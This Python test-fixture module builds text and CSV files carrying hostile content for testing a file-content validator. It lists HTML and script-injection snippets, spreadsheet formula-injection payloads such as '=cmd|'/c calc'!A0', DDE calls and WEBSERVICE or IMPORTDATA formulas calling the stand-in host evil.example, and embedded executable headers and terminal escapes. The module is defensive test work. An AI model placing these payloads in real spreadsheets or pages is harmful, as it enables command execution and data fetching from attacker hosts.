"""Texts and tables of text that run, fetch, or are none."""

from collections.abc import Iterator
from typing import Any

OTHER = "What is in the file is not what its name says"
PAGE = "The file is a page in HTML"
EXTERNAL = "The file fetches something from elsewhere"

PAGES = (
    "<html>", "< script >x</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<svg/onload=x>", "<iframe src=x>",
    "<!doctype   HTML>", '<?xml version="1.0"?><x/>', "<body onload=x>", "<object data=x>", "<embed src=x>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=import href=x>", "<?php x ?>", "<%@ page %>",
    "<applet code=x>",
)  # fmt: skip
FORMULAS = (
    "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-cmd|'/c calc'!A0", "@SUM(cmd|'/c calc'!A0)", '"=cmd|\'/c calc\'!A0"',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", '=WEBSERVICE("http://evil.example")',
    '"=WEBSERVICE(""http://evil.example"")"', '=IMPORTDATA("http://evil.example")', '=IMPORTXML("http://evil.example";"x")',
    '=IMAGE("http://evil.example/a.png")', '=RTD("x";;"y")', '=CALL("urlmon";"URLDownloadToFileA";"JJCCJJ")',
    '=EXEC("calc")', '=HYPERLINK("file://evil.example/x")', '=DDE("cmd";"/c calc";"x")',
)  # fmt: skip


def files() -> Iterator[tuple[str, str, Any, str]]:
    for number, text in enumerate(PAGES):
        yield f"a page in text {number}", "note.txt", f"Dear colleague,\n{text}\n".encode(), PAGE
        yield f"a page in CSV {number}", "list.csv", f"a;b\n1;{text}\n".encode("utf-16"), PAGE
    for number, formula in enumerate(FORMULAS):
        yield f"a cell that runs or fetches {number}", "list.csv", f"a\tb\n1\t{formula}\n".encode(), EXTERNAL
    for sign in (0, 1, 7, 8, 14, 27, 31):
        yield f"a control sign {sign} in text", "note.txt", b"Dear colleague" + bytes([sign]) + b"[31m", OTHER
        yield f"a control sign {sign} in CSV", "list.csv", b"a;b" + bytes([sign]) + b"\n1;2", OTHER
    for label, content in {
        "wide letters without a sign": "MZ report".encode("utf-16-le"),
        "half wide letters": b"\xff\xfea\0b",
        "bytes without order": bytes(range(255, 0, -1)) * 4,
        "noughts": b"\0" * 500,
        "an escape of a terminal": b"Hello \x1b]2;x\x07",
        "a program further down": b"text\n" + b"\0MZ\x90\0",
    }.items():
        yield f"{label} in text", "note.txt", content, OTHER
        yield f"{label} in CSV", "list.csv", content, OTHER
